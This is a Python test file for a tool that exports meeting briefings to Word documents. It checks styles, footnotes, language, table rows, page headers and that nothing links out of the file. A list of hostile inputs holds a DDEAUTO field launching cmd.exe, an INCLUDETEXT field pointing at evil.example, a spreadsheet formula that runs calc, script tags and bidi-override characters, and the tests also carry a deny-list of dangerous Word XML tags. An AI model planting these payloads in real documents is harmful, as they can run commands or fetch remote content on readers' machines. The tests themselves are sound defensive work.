"""The Word file by its XML: styles, footnotes, language, repeated rows, fields, and nothing that leads out."""

import io
import zipfile

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import qn

from ingest.papers import Access
from rag.answer import Citation, Sentence
from rag.briefings.briefing import Briefing, BriefRequest, Section
from rag.briefings.export import briefing_to_docx
from rag.briefings.word_properties import custom_properties
from rag.checking.verify import Verdict
from rag.plain import visible

HOSTILE = [
    "<script>alert(1)</script>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>",
    '{ INCLUDETEXT "http://evil.example/x" }',
    "[click](https://evil.example/)",
    "=cmd|' /C calc'!A0",
    "&amp;&#60;b&#62;",
    "bell \x07 zero \x00 escape \x1b[31m",
    "\u202eevil\u202c \u2066hidden\u2069 zero\u200bwidth",
    "lone \ud800 surrogate and \ufffe noncharacter",
]


def briefing_of(*words: str, title: str | None = None) -> Briefing:
    citations = tuple(
        Citation(
            n,
            f"paper{n}-1-{n}",
            f"{text[:20]}.txt",
            text,
            f"Panel, item {n} {text}",
            None,
            text,
            0,
            len(text),
            Access.PUBLIC,
        )
        for n, text in enumerate(words, 1)
    )
    sentences = tuple(Sentence(text, (n,), Verdict.SUPPORTED) for n, text in enumerate(words, 1))
    reworded = Sentence("The panel was told the same twice over.", (1, len(words)), Verdict.SUPPORTED)
    item = Section(
        f"3. {words[0]}", sections=(Section("Decided before", (*sentences, reworded), notes=(words[-1],)),)
    )
    return Briefing(title or words[0], (item,), citations, words, not_covered=words)


@pytest.fixture(scope="module")
def real(minutebook, owner) -> bytes:
    return briefing_to_docx(minutebook.brief(BriefRequest(agenda="agenda-september.txt"), scope=owner))


@pytest.fixture(scope="module", params=["real", "hostile"])
def written(request, real) -> bytes:
    return real if request.param == "real" else briefing_to_docx(briefing_of(*HOSTILE))


def part(written: bytes, name: str):
    with zipfile.ZipFile(io.BytesIO(written)) as package:
        return parse_xml(package.read(name))


def test_every_paragraph_has_a_style_with_a_meaning(real):
    document = Document(io.BytesIO(real))
    styles = [paragraph.style.name for paragraph in document.paragraphs]
    assert styles[:2] == ["Title", "Minutebook Draft"]
    assert {"Heading 1", "Heading 2", "List Bullet", "Minutebook Note Entry"} <= set(styles)
    assert "Normal" not in styles
    levels = [int(name[-1]) for name in styles if name.startswith("Heading")]
    assert levels[0] == 1
    assert all(later <= earlier + 1 for earlier, later in zip(levels, levels[1:], strict=False))


def test_every_point_has_a_footnote_and_every_footnote_is_referred_to_once(written):
    notes = {note.get(qn("w:id")): note for note in part(written, "word/footnotes.xml")}
    body = part(written, "word/document.xml")
    marks = [mark.get(qn("w:id")) for mark in body.iter(qn("w:footnoteReference"))]
    assert marks == [str(n) for n in range(1, len(marks) + 1)]
    assert set(notes) == {"-1", "0", *marks}
    assert notes["-1"].get(qn("w:type")) == "separator"
    assert notes["0"].get(qn("w:type")) == "continuationSeparator"
    for mark in marks:
        note = notes[mark]
        assert len(list(note.iter(qn("w:footnoteRef")))) == 1
        assert [each.get(qn("w:val")) for each in note.iter(qn("w:pStyle"))] == ["FootnoteText"]
        assert "".join(each.text for each in note.iter(qn("w:t"))).strip()
    for paragraph in Document(io.BytesIO(written)).paragraphs:
        has_mark = paragraph._p.find(f".//{qn('w:footnoteReference')}") is not None
        assert has_mark == (paragraph.style.name == "List Bullet")


def test_the_styles_and_separators_of_footnotes_are_declared(real):
    styles = {
        style.get(qn("w:styleId")): style for style in part(real, "word/styles.xml").iter(qn("w:style"))
    }
    assert styles["FootnoteText"].find(qn("w:name")).get(qn("w:val")) == "footnote text"
    mark = styles["FootnoteReference"]
    assert mark.find(qn("w:name")).get(qn("w:val")) == "footnote reference"
    assert mark.find(f".//{qn('w:vertAlign')}").get(qn("w:val")) == "superscript"
    settings = part(real, "word/settings.xml")
    assert [each.get(qn("w:id")) for each in settings.find(qn("w:footnotePr"))] == ["-1", "0"]


def test_a_note_gives_the_words_of_its_source_unless_the_point_does():
    written = briefing_to_docx(briefing_of("Fourteen lamps had failed.", "The rest follow in July."))
    notes = [
        "".join(each.text for each in note.iter(qn("w:t"))).strip()
        for note in part(written, "word/footnotes.xml")
    ][2:]
    assert notes[0] == "Panel, item 1 Fourteen lamps had failed."
    assert notes[2].endswith("\u201cFourteen lamps had failed.\u201d")
    assert notes[3].endswith("\u201cThe rest follow in July.\u201d")


def test_the_language_is_british_english_wherever_one_is_named(written):
    with zipfile.ZipFile(io.BytesIO(written)) as package:
        named = [
            element.get(qn("w:val"))
            for name in ("word/styles.xml", "word/settings.xml", "word/document.xml")
            for element in parse_xml(package.read(name)).iter(qn("w:lang"), qn("w:themeFontLang"))
        ]
    assert set(named) == {"en-GB"}
    assert Document(io.BytesIO(written)).core_properties.language == "en-GB"


def test_the_rows_that_head_tables_are_repeated_and_no_row_is_torn(real):
    table = Document(io.BytesIO(real)).tables[-1]
    first, *others = table.rows
    assert first._tr.trPr.find(qn("w:tblHeader")) is not None
    assert [cell.text for cell in first.cells] == ["Paper", "File", "Access"]
    assert others
    assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in others)


def test_every_page_carries_title_draft_mark_and_its_number(real):
    section = Document(io.BytesIO(real)).sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    title = Document(io.BytesIO(real)).core_properties.title
    assert [each.text for each in section.header.paragraphs][:2] == [title, "DRAFT: not approved"]
    fields = [each.get(qn("w:instr")) for each in section.footer._element.iter(qn("w:fldSimple"))]
    assert fields == ["PAGE", "NUMPAGES"]


def test_the_file_says_what_it_is(real):
    document = Document(io.BytesIO(real))
    properties = document.core_properties
    assert properties.title.startswith("Briefing: ")
    assert properties.author == "Minutebook"
    assert properties.created.year >= 2026
    own = custom_properties(document)
    assert own["Minutebook standing"] == "draft"
    assert len(own["Minutebook briefing"]) == 16


def test_nothing_in_the_file_leads_out_of_it_or_is_carried_out(written):
    with zipfile.ZipFile(io.BytesIO(written)) as package:
        assert len(package.namelist()) == len(set(package.namelist()))
        for name in package.namelist():
            content = package.read(name)
            if name.endswith(".rels"):
                assert b"TargetMode" not in content
            for tag in (
                b"w:hyperlink",
                b"w:instrText",
                b"w:object",
                b"w:pict",
                b"w:altChunk",
                b"w:attachedTemplate",
            ):
                assert b"<" + tag not in content, name
        assert not [name for name in package.namelist() if name.endswith((".bin", ".vml", ".jpeg", ".png"))]
    fields = [each.get(qn("w:instr")) for each in part(written, "word/document.xml").iter(qn("w:fldSimple"))]
    assert fields == []


@pytest.mark.parametrize("words", HOSTILE)
def test_words_of_a_paper_stay_words_in_title_heading_point_note_table_and_list(words):
    document = Document(io.BytesIO(briefing_to_docx(briefing_of(words, words))))
    shown = visible(words)
    texts = [each.text for each in document.paragraphs]
    for expected in (shown, f"3. {shown}", f"Note: {shown}"):
        assert expected in texts
    assert document.core_properties.title == shown
    assert shown in [cell.text for row in document.tables[-1].rows for cell in row.cells]
    assert not any(unseen in "".join(texts) for unseen in "\x00\x07\x1b\u202e\u2066\u200b")


def test_papers_of_one_title_are_told_apart_in_the_notes_by_their_files():
    briefing = briefing_of("Words.", "Other words.")
    same = tuple(
        Citation(**{**{name: getattr(each, name) for name in each.__dataclass_fields__}, "title": "Minutes"})
        for each in briefing.citations
    )
    written = briefing_to_docx(Briefing(briefing.title, briefing.sections, same, ()))
    notes = "".join(each.text for each in part(written, "word/footnotes.xml").iter(qn("w:t")))
    assert "(Words..txt)" in notes
    assert "(Other words..txt)" in notes


def test_marks_side_by_side_are_kept_apart():
    document = Document(io.BytesIO(briefing_to_docx(briefing_of("One.", "Two."))))
    point = next(each for each in document.paragraphs if each.text.startswith("The panel was told"))
    runs = [run.text or run._r.find(qn("w:footnoteReference")).get(qn("w:id")) for run in point.runs]
    assert runs == ["The panel was told the same twice over.", "3", "\u00a0", "4"]
